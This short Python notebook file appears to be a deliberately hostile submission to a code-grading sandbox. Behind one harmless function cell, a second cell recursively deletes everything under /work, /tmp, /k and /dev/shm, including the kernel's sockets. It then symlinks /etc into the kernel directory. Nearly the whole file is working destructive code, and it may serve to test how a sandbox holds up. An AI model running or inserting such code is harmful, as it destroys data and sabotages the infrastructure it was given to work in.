"""Deletes the submission, the temporary files and the kernel's sockets under its own feet."""


# %%
def spread(x):
    return x.max(axis=0)


# %%
import os, shutil

for folder in ("/work", "/tmp", "/k", "/dev/shm"):
    for name in os.listdir(folder):
        path = os.path.join(folder, name)
        shutil.rmtree(path, ignore_errors=True) if os.path.isdir(path) and not os.path.islink(
            path
        ) else os.unlink(path)
os.symlink("/etc", "/k/k-1")
